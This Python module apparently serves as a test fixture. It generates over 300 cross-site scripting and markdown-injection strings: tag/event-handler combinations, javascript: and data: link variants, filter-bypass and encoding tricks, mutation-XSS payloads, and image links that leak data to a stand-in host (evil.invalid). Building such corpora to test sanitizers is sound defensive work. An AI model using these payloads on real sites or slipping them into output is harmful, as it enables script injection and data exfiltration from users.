"""Texts that try to run something in the page: HTML, markdown links, broken marks, odd encodings. All made here."""

from itertools import product

CALL = "window.ran=1"
TAGS = [
    "img src=x",
    "svg",
    "body",
    "iframe",
    "video src=x",
    "details open",
    "input autofocus",
    "marquee",
    "object data=x",
    "math",
]
EVENTS = ["onerror", "onload", "onfocus", "ontoggle", "onanimationstart", "onmouseover"]
SCHEMES = [
    "javascript:", "JavaScript:", "java\nscript:", "java\tscript:", "\x01javascript:", " javascript:", "javascript&colon;",
    "&#106;avascript:", "data:text/html,", "data:text/html;base64,", "vbscript:", "blob:", "file:///", "//evil.invalid/",
    "http:javascript:", "view-source:javascript:", "jar:", "feed:javascript:", "javascript://x%0a", "intent://x#Intent;",
]  # fmt: skip
LINKS = [
    "[x]({})",
    "[x](<{}>)",
    "![x]({})",
    "<{}>",
    "[x]: {}\n\n[x]",
    "[![i]({})]({})",
    '[x]({} "t")',
    "|a|\n|-|\n|[x]({})|",
    "> - [x]({})",
]
WHOLE = [
    f"<script>{CALL}</script>", f"<scr<script>ipt>{CALL}</scr</script>ipt>", f"<script/x>{CALL}</script>",
    f"</title><script>{CALL}</script>", f"</textarea><script>{CALL}</script>", f"--><script>{CALL}</script>",
    f"```html\n<script>{CALL}</script>\n```", f"`<script>{CALL}</script>`", f"``` \"onload={CALL}\nx\n```",
    f"```\"><img src=x onerror={CALL}>\nx\n```", f"<style>@import 'https://evil.invalid/{CALL}'</style>",
    f"<link rel=stylesheet href=https://evil.invalid/?{CALL}>", f"<base href=https://evil.invalid/?{CALL}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>", f"<form action=javascript:{CALL}><button>x",
    f"<a href=\"javascript:{CALL}\">x</a>", f"<template><script>{CALL}</script></template>",
    f"<svg><script>{CALL}</script></svg>", f"<svg><use href=\"data:image/svg+xml,<svg onload={CALL}>\"></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>", f"<noscript><p title=\"</noscript><img src=x onerror={CALL}>\">",
    f"<iframe srcdoc=\"<script>{CALL}</script>\">", f"<embed src=data:text/html,{CALL}>", f"<img src=`x` onerror={CALL}>",
    f"<xss style=\"animation:x\" onanimationstart={CALL}>", f"{{{{constructor.constructor('{CALL}')()}}}}", f"${{{CALL}}}",
    f"\u202e<script>{CALL}</script>", f"<\x00script>{CALL}</script>", f"\ufeff<script>{CALL}</script>", f"＜script＞{CALL}＜/script＞",
    f"%3Cscript%3E{CALL}%3C/script%3E", f"&lt;script&gt;{CALL}&lt;/script&gt;", f"\\<script>{CALL}\\</script>",
    "![a](https://evil.invalid/leak?q=secret)", "![a][b]\n\n[b]: https://evil.invalid/leak", "<img src=https://evil.invalid/leak>",
    "[a](https://user:pass@evil.invalid/)", "https://evil.invalid/\"onmouseover=" + CALL, "<https://evil.invalid/\"onclick=" + CALL + ">",
    f"[x](https://a.invalid/'onclick='{CALL})", f"| <img src=x onerror={CALL}> |\n|---|\n| x |", f"# <img src=x onerror={CALL}>",
    f"1. <svg onload={CALL}>", f"**<img src=x onerror={CALL}>**", f"[<img src=x onerror={CALL}>](https://a.invalid)",
    f"[1]<svg onload={CALL}>", f"[1](javascript:{CALL})", "__proto__", "[constructor](javascript:1)",
]  # fmt: skip


def payloads() -> list[str]:
    """More than 300 different texts."""
    found = [f"<{tag} {event}={CALL}>" for tag, event in product(TAGS, EVENTS)]
    found += [f'"><{tag} {event}="{CALL}" x="' for tag, event in product(TAGS[:5], EVENTS[:3])]
    found += [link.replace("{}", scheme + CALL) for link, scheme in product(LINKS, SCHEMES)]
    return found + WHOLE
